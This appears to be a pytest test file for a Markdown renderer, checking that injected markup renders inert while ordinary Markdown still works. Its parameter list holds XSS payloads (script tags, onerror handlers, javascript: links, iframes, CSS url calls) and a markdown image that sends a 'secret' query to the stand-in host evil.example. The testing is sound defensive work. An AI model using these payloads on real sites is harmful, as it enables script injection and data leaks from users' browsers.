from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.core.markdown import render


class Elements(HTMLParser):
    """Elements as a browser would see them: name and number of attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, int]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, len(attrs)))


@pytest.mark.parametrize(
    "planted",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[innocent](https://evil.example/)",
        "<a href='https://evil.example'>x</a>",
        "<https://evil.example/?x=1>",
        "<iframe src='https://evil.example'></iframe>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "[a]: https://evil.example\n\n[a]",
    ],
)
def test_nothing_planted_becomes_active(planted: str) -> None:
    elements = Elements()
    elements.feed(render(planted))
    assert elements.found <= {("p", 0)}


def test_a_link_shows_where_it_goes() -> None:
    assert "https://evil.example/" in render("[innocent](https://evil.example/)")


def test_ordinary_markdown_is_rendered() -> None:
    html = render("**47** items\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>47</strong>" in html
    assert html.count("<li>") == 2
    assert "<table>" in html


def test_titles_that_look_like_markup_stay_text() -> None:
    assert "&lt;|°_°|&gt;" in render("<|°_°|>")
